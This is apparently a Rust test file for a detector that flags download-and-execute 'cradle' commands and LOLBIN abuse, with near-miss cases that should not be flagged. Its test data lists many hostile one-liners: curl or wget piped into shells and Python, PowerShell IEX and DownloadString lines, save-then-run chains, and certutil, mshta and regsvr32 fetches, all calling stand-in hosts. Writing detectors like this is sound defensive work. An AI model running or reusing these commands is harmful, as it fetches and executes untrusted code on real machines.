use super::*;

fn cradle(cmd: &str) -> bool {
    is_download_cradle(cmd)
}

#[test]
fn pipes_into_an_interpreter_are_cradles() {
    for cmd in [
        "bash -c \"curl -fsSL https://get.evil.top/install.sh | sh\"",
        "/bin/sh -c curl -s http://203.0.113.9/x | bash",
        "sh -c 'wget -qO- https://paste.example.xyz/a | bash'",
        "bash -c \"curl -sL https://x.top/s.sh | sudo bash\"",
        "bash -c \"curl -sL https://x.top/s.sh | sudo -E bash -s -- --yes\"",
        "zsh -c 'curl https://x.top/p.py | python3 -'",
        "powershell -nop -c \"iwr https://x.top/a.ps1 -UseBasicParsing | iex\"",
        "powershell.exe -c \"(Invoke-WebRequest https://x.top/a).Content | Invoke-Expression\"",
        "bash -c \"curl https://x.top/a | env FOO=1 bash\"",
    ] {
        assert!(cradle(cmd), "{cmd}");
    }
}

#[test]
fn substitutions_into_an_interpreter_are_cradles() {
    for cmd in [
        "/bin/bash -c \"$(curl -fsSL https://raw.evil.top/install.sh)\"",
        "bash <(curl -s https://x.top/i.sh)",
        "source <(wget -qO- https://x.top/env)",
        "eval \"$(curl -s https://x.top/e)\"",
        "sh -c \"`wget -qO- http://x.top/a`\"",
        "bash -c \"$( curl -fsSL https://x.top/i.sh )\"",
    ] {
        assert!(cradle(cmd), "{cmd}");
    }
}

#[test]
fn powershell_evaluated_downloads_are_cradles() {
    for cmd in [
        "powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x.top/a.ps1')\"",
        "powershell.exe -c \"iex (iwr https://x.top/b -UseBasicParsing)\"",
        "pwsh -c \"Invoke-Expression (irm https://x.top/c)\"",
    ] {
        assert!(cradle(cmd), "{cmd}");
    }
}

#[test]
fn saved_then_run_is_a_cradle() {
    for cmd in [
        "sh -c \"curl -o /tmp/i.sh https://x.top/i.sh && sh /tmp/i.sh\"",
        "bash -c 'curl -sSLo /tmp/x https://x.top/x; chmod +x /tmp/x; /tmp/x'",
        "bash -c \"wget https://x.top/setup.sh && bash setup.sh\"",
        "bash -c \"curl -O https://x.top/run.sh && bash run.sh\"",
        "bash -c \"curl https://x.top/a > /tmp/a.sh; sh /tmp/a.sh\"",
        "bash -c \"wget -O /tmp/b https://x.top/b && chmod +x /tmp/b && /tmp/b\"",
    ] {
        assert!(cradle(cmd), "{cmd}");
    }
}

#[test]
fn near_misses_are_no_cradles() {
    for cmd in [
        // A download kept, never run.
        "curl -o /tmp/report.pdf https://x.top/report.pdf",
        "wget https://x.top/setup.sh",
        "curl -fsSL https://x.top/a.json | jq .name",
        "curl -s https://x.top/a | tee /tmp/a.txt",
        // A script run, never fetched.
        "sh script.sh",
        "bash -c \"echo hello | sh\"",
        "/usr/bin/gnome-terminal --window",
        // A substitution that is no fetch, or not handed to an interpreter.
        "bash -c \"$(cat ~/.profile)\"",
        "echo \"$(curl -s https://x.top/ip)\"",
        // Saved under one name, another file run.
        "sh -c \"curl -o /tmp/a.sh https://x.top/a.sh && sh /tmp/b.sh\"",
        // Names that only contain a fetcher's.
        "curlew --help",
        "",
    ] {
        assert!(!cradle(cmd), "{cmd}");
    }
}

#[test]
fn lolbin_classes_need_a_lolbin() {
    let user = |p: &str| p.to_ascii_lowercase().starts_with(r"c:\users\");
    let certutil = r"certutil.exe -urlcache -split -f http://x.top/a.exe C:\Users\alice\AppData\Local\Temp\a.exe";
    assert_eq!(classify(certutil, true, user), vec![CmdClass::LolbinUrl, CmdClass::LolbinFile]);
    assert_eq!(classify(certutil, false, user), vec![], "not a LOLBIN image");
    assert_eq!(classify("mshta.exe https://x.top/a.hta", true, user), vec![CmdClass::LolbinUrl]);
    assert_eq!(
        classify(r"rundll32.exe C:\Users\bob\Downloads\x.dll,Start", true, user),
        vec![CmdClass::LolbinFile],
        "a DLL export after the comma"
    );
    assert_eq!(classify(r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL", true, user), vec![]);
    assert_eq!(classify("regsvr32 /s /u /i:https://x.top/a.sct scrobj.dll", true, user), vec![CmdClass::LolbinUrl]);
    let iwr = "powershell -c \"iwr https://x.top/a.ps1 | iex\"";
    assert_eq!(classify(iwr, true, user), vec![CmdClass::DownloadCradle, CmdClass::LolbinUrl]);
    assert_eq!(classify(iwr, false, user), vec![CmdClass::DownloadCradle], "a cradle needs no LOLBIN image");
}
